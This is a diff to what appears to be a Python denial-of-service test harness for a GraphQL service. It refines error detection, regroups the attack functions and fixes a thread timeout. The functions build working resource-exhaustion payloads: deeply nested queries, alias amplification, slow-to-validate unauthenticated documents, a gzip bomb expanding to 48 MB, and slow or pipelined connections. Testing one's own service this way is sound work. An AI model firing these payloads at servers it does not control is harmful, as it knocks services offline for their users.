@@ -80,7 +80,7 @@ Attack = Callable[[Target], str]
 
 
 def _nested(field: str, depth: int) -> str:
-    inner = field
+    inner = "name"
     for _ in range(depth):
         inner = f"runs(first:50){{edges{{node{{{field} project{{{inner}}}}}}}}}"
     return _of_project(inner)
@@ -95,7 +95,12 @@ def _of_long_run(fields: str) -> str:
 
 
 def _ask(target: Target, query: str, **variables: Any) -> str:
-    return str(target.post("/graphql", _question(query, **variables), target.auth)[0])
+    return _graphql(target, query, target.auth, **variables)
+
+
+def _graphql(target: Target, query: str, headers: dict[str, str], **variables: Any) -> str:
+    status, body = target.post("/graphql", _question(query, **variables), headers)
+    return f"{status} with errors" if body.startswith(b'{"errors"') and status == http.client.OK else str(status)
 
 
 def planned(target: Target) -> str:
@@ -105,7 +110,7 @@ def planned(target: Target) -> str:
 
 def fields(target: Target) -> str:
     """The same, field by field."""
-    return _ask(target, _nested("heartbeatAt history(samples:1)", 5))
+    return _ask(target, _nested("history(samples:1)", 5))
 
 
 def aliases(target: Target) -> str:
@@ -123,7 +128,7 @@ def documents(target: Target) -> str:
     """Without a key, documents that take long to validate, each another."""
     number = random.randrange(1 << 30)
     query = f"{{ x{number}: __typename " + 'a: project(name:"p") { id } ' * 1000 + "}"
-    return str(target.post("/graphql", _question(query), {})[0])
+    return _graphql(target, query, {})
 
 
 _SPACES = gzip.compress(b'{"query": "{ __typename }"' + b" " * (48 << 20) + b"}")  # 47 KB
@@ -200,8 +205,8 @@ def unread(target: Target) -> str:
         return asked.recv(12)[9:].decode() or "closed"
 
 
-PRICE: tuple[Attack, ...] = (planned, fields, aliases, dots, documents)
-OTHERS: tuple[Attack, ...] = (packed, unknown, rows, lists, heads, pipelined, slow, unread)
+PRICE: tuple[Attack, ...] = (planned, fields, aliases)  # short questions for very much
+OTHERS: tuple[Attack, ...] = (dots, documents, packed, unknown, rows, lists, heads, pipelined, slow, unread)
 ATTACKS: dict[str, Attack] = {attack.__name__: attack for attack in (*PRICE, *OTHERS)}
 
 
@@ -224,7 +229,7 @@ def main() -> None:
     for thread in threads:
         thread.start()
     for thread in threads:
-        thread.join(max(0.0, end - time.monotonic()) + 0.5)
+        thread.join(max(0.0, end + 0.5 - time.monotonic()))
     print(json.dumps({name: dict(each) for name, each in seen.items()}))
 
 
